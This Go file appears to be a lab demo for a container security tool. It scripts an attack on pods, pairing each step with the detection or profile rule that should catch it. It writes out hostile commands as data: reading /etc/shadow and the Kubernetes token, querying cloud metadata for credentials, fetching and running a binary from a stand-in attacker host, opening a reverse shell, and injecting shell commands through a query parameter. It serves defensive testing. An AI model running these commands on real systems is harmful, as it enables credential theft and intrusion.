// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"time"

	"github.com/holdfast-project/holdfast/tests/lab"
)

// The machines that pods see: the attacker's, the cloud's metadata service, a name server and a bank. All are played by
// the demo, on addresses of the lab's own loopback device.
const (
	attackerAddress = "203.0.113.66"
	attackerName    = "drop.example.net"
	metadataAddress = "169.254.169.254"
	resolverAddress = "203.0.113.53"
	bankAddress     = "203.0.113.20"
	bankName        = "bank.example.com"
)

// step is one step of an attack: what the attacker does, and how; the rule that tells of it, or none for a step that is
// ordinary.
type step struct {
	what, command, rule string
}

const secrets = "/var/run/secrets/kubernetes.io/serviceaccount"

// detected are the steps of the attack on the web service that is watched and no more: commands for its shell.
func detected() []step {
	return []step{
		{"find out where one is", "id; hostname", ""},
		{"read the password hashes", "cat /etc/shadow", "Sensitive file read"},
		{"read the pod's Kubernetes token", "cat " + secrets + "/token", "Sensitive file read"},
		{"ask the cloud for the node's credentials", "wget -qO- http://" + metadataAddress + "/latest/meta-data/iam/security-credentials/",
			"Cloud metadata service contacted"},
		{"download a tool and run it", "wget -qO /tmp/.x http://" + attackerAddress + "/x && chmod +x /tmp/.x && /tmp/.x nop",
			"Executable not from the image"},
		{"run it from memory, under a harmless name", "/tmp/.x fileless", "Fileless execution"},
		{"hide a copy among the programs", "cp /tmp/.x /usr/bin/dbus-helper", "Write below a binary directory"},
		{"listen to the network", "/tmp/.x packet-socket", "Raw or packet socket opened"},
		{"open a shell to the attacker", "/tmp/.x reverse-shell " + attackerAddress + ":4444", "Shell with a socket for its input"},
	}
}

// blocked are the steps of the attack on the web service that is kept to its profile: one command for its shell, and
// templates for its invoices.
func blocked() []step {
	return []step{
		{"give the shell another command", shellStep + "cat /etc/shadow", "Arguments not in profile"},
		{"drop a program", "save /tmp/.x", "File access not in profile"},
		{"run one that was uploaded", "run " + uploads + "/x hello", "Executable not in profile"},
		{"have the dynamic linker run it", "run " + linker + " " + uploads + "/x hello", "Executable not in profile"},
		{"run one from memory", "memory", "Fileless executable"},
		{"send what was found to an address", "contact " + attackerAddress + ":80", "Contact not in profile"},
		{"send it to a name", "contact " + attackerName + ":80", "Contact not in profile"},
		{"read the pod's Kubernetes token", "read " + secrets + "/token", "Protected file not in profile"},
	}
}

// shellStep begins the commands that go to the shell.
const shellStep = "sh: "

// serveOutside plays the machines that the pod talks to, until the lab is closed.
func serveOutside(ctx context.Context, l *lab.Lab, tool string) error {
	for _, address := range []string{attackerAddress, metadataAddress, resolverAddress, bankAddress} {
		if err := l.AddAddress(netip.MustParseAddr(address)); err != nil {
			return err
		}
	}
	files := http.NewServeMux()
	files.HandleFunc("/x", func(w http.ResponseWriter, r *http.Request) { http.ServeFile(w, r, tool) })
	metadata := http.NewServeMux()
	metadata.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "node-role") })
	for address, handler := range map[string]http.Handler{attackerAddress + ":80": files, metadataAddress + ":80": metadata} {
		listener, err := l.Listen(ctx, "tcp", address)
		if err != nil {
			return err
		}
		server := &http.Server{Handler: handler}
		go func() { _ = server.Serve(listener) }()
		context.AfterFunc(ctx, func() { _ = server.Close() })
	}
	shells, err := l.Listen(ctx, "tcp", attackerAddress+":4444")
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = shells.Close() })
	go each(shells, "uname -a\nexit\n")
	bank, err := l.Listen(ctx, "tcp", bankAddress+":443")
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = bank.Close() })
	go each(bank, "paid\n")
	questions, err := l.ListenPacket(ctx, "udp", resolverAddress+":53")
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { _ = questions.Close() })
	go answerNames(questions, map[string]netip.Addr{
		bankName: netip.MustParseAddr(bankAddress), attackerName: netip.MustParseAddr(attackerAddress),
	})
	return nil
}

// each says something to whoever comes, hears what they say until they end, and leaves. To a shell, it is commands.
func each(listener net.Listener, words string) {
	for {
		conn, err := listener.Accept()
		if err != nil {
			return
		}
		go func() {
			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
			if _, err := io.WriteString(conn, words); err == nil {
				if tcp, ok := conn.(*net.TCPConn); ok {
					_ = tcp.CloseWrite()
				}
				_, _ = io.Copy(io.Discard, conn)
			}
			_ = conn.Close()
		}()
	}
}

// try takes one step against a web service and gives what it answered.
func try(ctx context.Context, client *http.Client, shop string, s step) (string, error) {
	if command, ok := strings.CutPrefix(s.command, shellStep); ok {
		return inject(ctx, client, shop, command)
	}
	return post(ctx, client, "http://"+shop+"/invoice", s.command)
}

// inject sends one command through the mistake in the web service.
func inject(ctx context.Context, client *http.Client, shop, command string) (string, error) {
	return ask(ctx, client, http.MethodGet, "http://"+shop+"/track?parcel="+url.QueryEscape("1; "+command), "")
}

func post(ctx context.Context, client *http.Client, to, body string) (string, error) {
	return ask(ctx, client, http.MethodPost, to, body)
}

func ask(ctx context.Context, client *http.Client, method, to, body string) (string, error) {
	request, err := http.NewRequestWithContext(ctx, method, to, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	response, err := client.Do(request)
	if err != nil {
		return "", fmt.Errorf("ask the web service: %w", err)
	}
	text, err := io.ReadAll(response.Body)
	return string(text), errors.Join(err, response.Body.Close())
}
